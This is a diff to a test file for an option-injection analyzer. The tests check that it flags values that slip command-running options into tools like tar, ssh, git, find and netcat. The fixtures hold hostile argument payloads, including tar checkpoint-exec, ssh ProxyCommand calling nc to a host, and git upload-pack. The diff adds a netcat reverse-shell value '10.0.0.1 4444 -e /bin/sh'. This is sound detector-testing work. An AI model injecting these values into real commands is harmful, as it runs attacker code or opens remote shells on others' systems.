@@ -10,7 +10,7 @@ describe("option-injection analyzer: a value that is a tool's options", () => {
       "--checkpoint=1 --checkpoint-action=exec=sh shell.sh", "-oProxyCommand=sh -c 'id'", "-o ProxyCommand=nc 198.51.100.7 4444", '-o "ProxyCommand sh -c id"',
       "--upload-pack=touch /tmp/pwned", "--to-command=id", "-c core.sshCommand=id", "-exec sh -c id ;", "--use-compress-program=sh x.sh", " -TT=id",
       // a blank for `=`, getopt_long's abbreviations, an interpreter for -e
-      "--checkpoint-action exec=sh x", "--upload-pack touch /tmp/x", "--checkpoint-act=exec=sh x", "--to-comm=id", "-e 'python -c import os'", "-e sh", "-e sh -v", "-c protocol.ext.allow=always", "--exec=id", "--exec /bin/sh -c id", "-e /bin/sh", "-e/usr/bin/bash", "x -exec id ;", "-e cmd.exe", "-c /bin/sh", '--sh-exec "/bin/sh"',
+      "--checkpoint-action exec=sh x", "--upload-pack touch /tmp/x", "--checkpoint-act=exec=sh x", "--to-comm=id", "-e 'python -c import os'", "-e sh", "-e sh -v", "-c protocol.ext.allow=always", "--exec=id", "--exec /bin/sh -c id", "-e /bin/sh", "-e/usr/bin/bash", "x -exec id ;", "10.0.0.1 4444 -e /bin/sh", "-e cmd.exe", "-c /bin/sh", '--sh-exec "/bin/sh"',
     ]) {
       expect([v, strongest(optionInjectionAnalyzer, v)?.rule]).toEqual([v, "options.runs-command"]);
       expect(s(v)).toBe(0.9);
@@ -40,7 +40,7 @@ describe("option-injection analyzer: a value that is a tool's options", () => {
   });
 
   test("sort keys, negative numbers, flags and options quoted in prose are nothing", () => {
-    for (const v of ["-1", "--", "-sort=price", "-created_at", "-o json", "--help", "-- not sure", "-exec", "-T /", "run tar with --checkpoint-action=exec=x to see", "-v -o out.txt", "-exec is find's option to run a command", "-o /tmp/report.pdf", "-e sh option meaning", "-c core.editor=vim", "--exec", "--execution-mode=fast", "--exec-path=/usr/lib/git-core", "foo -exec", "name -x", "Use find with -exec rm {} \\; to delete"]) expect([v, s(v)]).toEqual([v, 0]);
+    for (const v of ["-1", "--", "-sort=price", "-created_at", "-o json", "--help", "-- not sure", "-exec", "-T /", "run tar with --checkpoint-action=exec=x to see", "-v -o out.txt", "-exec is find's option to run a command", "-o /tmp/report.pdf", "-e sh option meaning", "-c core.editor=vim", "--exec", "--execution-mode=fast", "--exec-path=/usr/lib/git-core", "foo -exec", "name -x", "room 101 -e sh option", "Use find with -exec rm {} \\; to delete"]) expect([v, s(v)]).toEqual([v, 0]);
     // A Markdown list, a rule, a signature; options after a line break or after `--`.
     for (const v of ["- Clean old logs: use find with -exec rm {} \\; to delete them\n- Rotate weekly", "- Step 1: download the file with curl -o /var/www/x", "--- \n-e sh", "-v\n--upload-pack=x", "-v -- --upload-pack=x"]) expect([v, s(v)]).toEqual([v, 0]);
     expect(optionInjectionAnalyzer.analyze({ text: "/a/--upload-pack=x", location: "path", path: "path", name: "", kind: "path" })).toEqual([]);
